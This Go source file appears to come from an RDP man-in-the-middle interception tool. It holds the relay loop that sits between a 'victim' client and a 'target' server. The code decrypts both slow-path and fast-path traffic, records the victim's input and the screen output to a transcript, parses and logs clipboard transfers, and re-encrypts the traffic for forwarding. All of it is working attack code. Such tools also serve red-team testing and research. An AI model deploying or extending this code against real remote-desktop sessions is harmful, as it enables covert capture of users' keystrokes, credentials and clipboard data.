package mitm

import (
	"bytes"
	"io"

	"github.com/proxysec/rdpmitm/core"
	"github.com/proxysec/rdpmitm/glog"
	"github.com/proxysec/rdpmitm/proto/clipboard"
	"github.com/proxysec/rdpmitm/proto/drdynvc"
	"github.com/proxysec/rdpmitm/proto/fastpath"
	"github.com/proxysec/rdpmitm/proto/mcs"
	"github.com/proxysec/rdpmitm/proto/sec"
	"github.com/proxysec/rdpmitm/proto/segment"
	"github.com/proxysec/rdpmitm/proto/slowpath"
	"github.com/proxysec/rdpmitm/proto/x224"
)

// relay runs two directional pumps concurrently and blocks until either
// one ends, for whatever reason; clean disconnect, malformed PDU, or
// the opposite pump already having stopped. Both legs are driven by one
// session, so one direction ending always means the session is over.
func (s *Session) relay() {
	done := make(chan any, 2)

	go func() {
		defer func() { done <- recover() }()
		s.pumpVictimToTarget()
	}()
	go func() {
		defer func() { done <- recover() }()
		s.pumpTargetToVictim()
	}()

	if r := <-done; r != nil {
		panic(r)
	}
}

// pumpVictimToTarget reads everything the victim sends once both
// handshakes are Active, decrypting/recording/clipboard-inspecting it,
// and forwards it to the target over the matching channel. The victim
// plays RDP client toward this proxy, so forwarded slow-path data is
// reframed as a SendDataRequest; the same shape ServerEngine used
// during its own handshake.
func (s *Session) pumpVictimToTarget() {
	for {
		frame := segment.Next(s.victim.Transport)
		switch frame.Kind {
		case segment.KindSlowPath:
			s.relaySlowPath(frame.Data, true)
		case segment.KindFastPath:
			s.relayFastPath(frame, true)
		}
	}
}

// pumpTargetToVictim is pumpVictimToTarget's mirror: the target plays RDP
// server toward this proxy's ServerEngine, so forwarded slow-path data is
// reframed as a SendDataIndication toward the victim.
func (s *Session) pumpTargetToVictim() {
	for {
		frame := segment.Next(s.target.Transport)
		switch frame.Kind {
		case segment.KindSlowPath:
			s.relaySlowPath(frame.Data, false)
		case segment.KindFastPath:
			s.relayFastPath(frame, false)
		}
	}
}

// relaySlowPath handles one X.224 Data TPDU payload already known to be
// MCS-framed. fromVictim selects which direction it came from and,
// therefore, which direction it is forwarded.
func (s *Session) relaySlowPath(data []byte, fromVictim bool) {
	pduType := mcs.ReadDomainPDUType(data)
	if pduType == mcs.MCS_PDUTYPE_DISCONNECT_PROVIDER_ULTIMATUM {
		d := mcs.ReadDisconnectProviderUltimatum(data)
		core.ThrowRDPErrorf(core.ErrTransportClosed, "disconnect provider ultimatum, reason=%d", d.Reason)
	}

	_, channelID, payload := mcs.ReadSendData(data)

	var secure *SecureChannel
	var ioChannelID uint16
	if fromVictim {
		secure, ioChannelID = s.victimSecure, s.channels.victimIO
	} else {
		secure, ioChannelID = s.targetSecure, s.channels.targetIO
	}

	// Legacy mode prefixes every slow-path body with a security header
	// (and, when SEC_ENCRYPT is set, a MAC plus ciphertext); TLS mode
	// carries the PDU bare once licensing is done, so there is nothing
	// to strip.
	plain := payload
	if secure != nil {
		plain = decryptSlowPathBody(payload, secure)
	}

	s.recordSlowPath(plain, fromVictim, channelID, channelID == ioChannelID)

	destChannelID, ok := s.mapChannel(channelID, fromVictim)
	if !ok {
		glog.Debugf("session %s: dropping slow-path pdu on unmapped channel %d", s.ID, channelID)
		return
	}

	var outSecure *SecureChannel
	if fromVictim {
		outSecure = s.targetSecure
	} else {
		outSecure = s.victimSecure
	}
	outBody := plain
	if outSecure != nil {
		outBody = encryptSlowPathBody(plain, outSecure)
	}

	s.forwardSlowPath(destChannelID, outBody, fromVictim)
}

// resolveChannelName returns the channel's name regardless of which leg
// channelID was observed on, for dispatch to per-channel inspection
// (clipboard, dynamic virtual channels).
func (s *Session) resolveChannelName(channelID uint16, fromVictim bool) string {
	if fromVictim {
		return s.channels.name(channelID)
	}
	if victimID, ok := s.channels.toVictim(channelID); ok {
		return s.channels.name(victimID)
	}
	return ""
}

func (s *Session) mapChannel(channelID uint16, fromVictim bool) (uint16, bool) {
	if fromVictim {
		if channelID == s.channels.victimIO {
			return s.channels.targetIO, true
		}
		return s.channels.toTarget(channelID)
	}
	if channelID == s.channels.targetIO {
		return s.channels.victimIO, true
	}
	return s.channels.toVictim(channelID)
}

func (s *Session) forwardSlowPath(destChannelID uint16, body []byte, fromVictim bool) {
	if fromVictim {
		sdr := mcs.NewSendDataRequest(s.target.UserId, destChannelID)
		x224.Write(s.target.Transport, sdr.Serialize(body))
		return
	}
	sdi := mcs.NewSendDataIndication(s.victim.NextUserId, destChannelID)
	x224.Write(s.victim.Transport, sdi.Serialize(body))
}

// recordSlowPath classifies the plaintext payload for the transcript:
// I/O channel traffic is Input or Output by direction, clipboard channel
// traffic gets its own record type, and dynamic-virtual-channel control
// messages are logged rather than recorded. Virtual channel payloads are
// chunked under a CHANNEL_PDU_HEADER and only inspected once reassembled.
// Classification failures on the side inspection never disturb the relay;
// the payload was already decrypted successfully, so a parse error here is
// the channel's business, not the session's.
func (s *Session) recordSlowPath(plain []byte, fromVictim bool, channelID uint16, isIOChannel bool) {
	if isIOChannel {
		core.TryCatch(func() {
			h, body := slowpath.ReadShareControl(plain)
			if h.PDUType == slowpath.PDUTYPE_DATAPDU {
				dh, _ := slowpath.ReadShareData(body)
				glog.Debugf("session %s: slow-path data pdu type2=%#x (%d bytes)", s.ID, dh.PDUType2, len(plain))
			}
		}, func(any) {})
		if fromVictim {
			s.rec.Input(plain)
		} else {
			s.rec.Output(plain)
		}
		return
	}

	channelName := s.resolveChannelName(channelID, fromVictim)
	if channelName != virtualChannelClipboard && channelName != virtualChannelDynamic {
		return
	}

	core.TryCatch(func() {
		message, complete := s.channels.assembler(fromVictim, channelID).Push(plain)
		if !complete {
			return
		}
		switch channelName {
		case virtualChannelClipboard:
			if msg, err := clipboard.ReadClipboardMessage(bytes.NewReader(message)); err == nil {
				s.rec.Clipboard(msg.Serialize())
				s.logClipboard(msg, fromVictim)
			}
		case virtualChannelDynamic:
			if msg, err := drdynvc.ReadDynamicVirtualChannelMessage(bytes.NewReader(message)); err == nil {
				glog.Debugf("session %s: drdynvc message type %#x (%d bytes)", s.ID, msg.MessageType, len(msg.Data))
			}
		}
	}, func(e any) {
		glog.Debugf("session %s: channel %q inspection failed: %v", s.ID, channelName, e)
	})
}

// logClipboard emits one structured event per observed clipboard message
// of operator interest: format announcements and actual data transfers.
func (s *Session) logClipboard(msg *clipboard.ClipboardMessage, fromVictim bool) {
	fields := map[string]interface{}{
		"session_id":  s.ID,
		"from_victim": fromVictim,
	}
	switch msg.MessageType {
	case clipboard.CLIPRDR_MSG_TYPE_FORMAT_LIST:
		names := []string{}
		for _, f := range clipboard.ParseFormatList(msg.Data) {
			names = append(names, clipboard.GetFormatName(f))
		}
		fields["formats"] = names
		s.log.InfoStructured("clipboard format list", fields)
	case clipboard.CLIPRDR_MSG_TYPE_FORMAT_DATA_RESPONSE:
		fields["bytes"] = len(msg.Data)
		s.log.InfoStructured("clipboard data transferred", fields)
	}
}

// relayFastPath mirrors relaySlowPath for MS-RDPBCGR FastPath framing:
// input PDUs flow victim->target, output PDUs flow target->victim, and
// both are re-signed/re-encrypted for the opposite leg's key material
// rather than forwarded as raw ciphertext.
func (s *Session) relayFastPath(frame segment.Frame, fromVictim bool) {
	var secure *SecureChannel
	if fromVictim {
		secure = s.victimSecure
	} else {
		secure = s.targetSecure
	}

	plain := frame.Data
	if frame.EncryptionFlags&fastpath.FASTPATH_OUTPUT_ENCRYPTED != 0 {
		core.ThrowIf(secure == nil, "encrypted fastpath pdu received with no secure channel negotiated")
		plain = fastPathDecrypt(frame.Data, secure)
	}

	if fromVictim {
		s.rec.Input(plain)
	} else {
		s.rec.Output(plain)
	}

	var outSecure *SecureChannel
	var outTransport io.Writer
	if fromVictim {
		outSecure = s.targetSecure
		outTransport = s.target.Transport
	} else {
		outSecure = s.victimSecure
		outTransport = s.victim.Transport
	}

	if outSecure == nil {
		fastpath.WritePDU(outTransport, frame.NumberEvents, plain)
		return
	}
	fastpath.WriteEncryptedPDU(outTransport, outSecure.Encrypt, frame.NumberEvents, plain)
}

// fastPathDecrypt re-derives the FastPath ciphertext framing that
// segment.Next already stripped down to the data bytes, so it can be run
// back through fastpath.ReadEncrypted's MAC-then-RC4 logic without
// re-reading the header.
func fastPathDecrypt(data []byte, c *SecureChannel) []byte {
	core.ThrowIf(len(data) < 8, "fastpath encrypted pdu too short")
	var mac [8]byte
	copy(mac[:], data[:8])
	ciphertext := data[8:]
	plain := c.Decrypt.Stream.Apply(ciphertext)
	if !sec.VerifySign(c.Decrypt.MacKey, plain, mac) {
		core.ThrowRDPErrorf(core.ErrBadSignature, "fastpath signature mismatch")
	}
	return plain
}

// decryptSlowPathBody strips the 4-byte TsSecurityHeader from an I/O
// channel slow-path payload and, if SEC_ENCRYPT is set, verifies and
// decrypts the MAC-prefixed ciphertext that follows.
func decryptSlowPathBody(body []byte, ch *SecureChannel) []byte {
	r := bytes.NewReader(body)
	var sh sec.TsSecurityHeader
	sh.Read(r)

	if sh.Flags&sec.SEC_ENCRYPT == 0 {
		return core.ReadBytes(r, r.Len())
	}

	r = bytes.NewReader(body)
	var sh2 sec.TsSecurityHeader2
	sh2.Read(r)
	ciphertext := core.ReadBytes(r, r.Len())

	plain, ok := ch.DecryptSlowPath(ciphertext, sh2.DataSignature)
	if !ok {
		core.ThrowRDPErrorf(core.ErrBadSignature, "slow-path signature mismatch")
	}
	return plain
}

// encryptSlowPathBody is decryptSlowPathBody's inverse: a TsSecurityHeader2
// with SEC_ENCRYPT and the MAC, then the ciphertext.
func encryptSlowPathBody(payload []byte, ch *SecureChannel) []byte {
	buf := new(bytes.Buffer)
	mac, ciphertext := ch.EncryptSlowPath(payload)
	sh2 := sec.TsSecurityHeader2{
		TsSecurityHeader: sec.TsSecurityHeader{Flags: sec.SEC_ENCRYPT},
		DataSignature:    mac,
	}
	sh2.Write(buf)
	buf.Write(ciphertext)
	return buf.Bytes()
}
